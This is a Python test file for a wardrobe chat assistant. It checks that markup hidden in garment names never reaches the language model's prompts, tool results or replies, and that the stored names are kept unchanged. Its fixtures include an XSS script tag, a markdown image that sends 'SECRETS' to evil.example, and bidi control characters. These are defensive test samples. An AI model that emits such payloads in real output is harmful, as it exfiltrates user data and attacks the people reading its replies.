"""Markup in a garment's name reaches no reply, card, tool summary or prompt; the name stays."""

import json

from chat_frames import begin, say
from ollama_server import Calls, Says
from sqlalchemy import select
from wardrobe_rows import hang_up

from db import garments
from db.models import Garment

NAMES = (
    "shirt ![x](https://evil.example/p.png?q=SECRETS)",
    '<img src=x onerror=alert(1)><script>fetch("//evil.example")</script>coat',
    "[free clothes](https://evil.example) \u202e\u200b",
    "long " * 19,
)
TURNS = (
    "smart casual for 12 degrees", "warmer", "swap the shoes", "why the first?",
    "why not the jeans?", "what shirts do I have?", "what coats do I have?",
    "I love the first", "show me three more",
)  # fmt: skip
ACTIVE = ("evil.example", "<img", "<script", "![", "](", "\u202e", "\u200b", "long " * 17)


async def name_all(person) -> list:
    async with person.deps.sessions.begin() as session:
        ids = await hang_up(session, person.id)
        for n, id_ in enumerate(ids):
            facts = {"custom_name": NAMES[n % len(NAMES)], "custom_notes": NAMES[0]}
            await garments.tell_facts(session, id_, owner_id=person.id, facts=facts)
    return ids


def active_in(text: str) -> list[str]:
    said = json.dumps(json.loads(text), ensure_ascii=False) if text[:1] in "{[" else text
    return [sign for sign in ACTIVE if sign in said]


async def test_no_event_of_a_conversation_has_markup_of_a_name(person) -> None:
    await name_all(person)
    talk = await begin(person)
    turns = [await say(person, talk, words) for words in TURNS]
    for words, turn in zip(TURNS, turns, strict=True):
        for _, kind, data in turn.frames:
            assert active_in(json.dumps(data)) == [], (words, kind, data)
    assert any("shirt x" in turn.reply for turn in turns), "the names are spoken of"
    run = await person.client.get(f"/v1/runs/{turns[0].run_id}")
    said = await person.client.get(f"/v1/conversations/{talk}")
    made = await person.client.get(f"/v1/outfits/{turns[0].outfits[0]['id']}")
    for answer in (run, said, made):
        assert answer.status_code == 200
        assert active_in(answer.text) == []


async def test_the_wardrobe_itself_keeps_the_name_as_it_was_given(person) -> None:
    ids = await name_all(person)
    answer = await person.client.get(f"/v1/garments/{ids[0]}")
    assert answer.json()["name"] == NAMES[0]
    async with person.deps.sessions() as session:
        kept = await session.scalar(select(Garment.custom_name).where(Garment.id == ids[1]))
    assert kept == NAMES[1]


async def test_a_language_model_neither_reads_nor_writes_markup(talk_with, ollama, person) -> None:
    async with talk_with(host=ollama.url, extraction="off") as talk:
        await name_all(person)
        ollama.script = [
            Calls((("search_wardrobe", {"query": "shirt", "limit": 20}),)),
            Says("Look: ![it](https://evil.example/a.png) <img src=//evil.example> **fine**."),
        ]
        turn = await talk("what shirts do I have?")
    assert turn.reply.split() == ["Look:", "it", "**fine**."]
    told = [m["content"] for m in ollama.asked[-1]["messages"] if m["role"] == "tool"]
    assert told
    assert "shirt x" in told[0], told[0]
    assert active_in(told[0]) == []
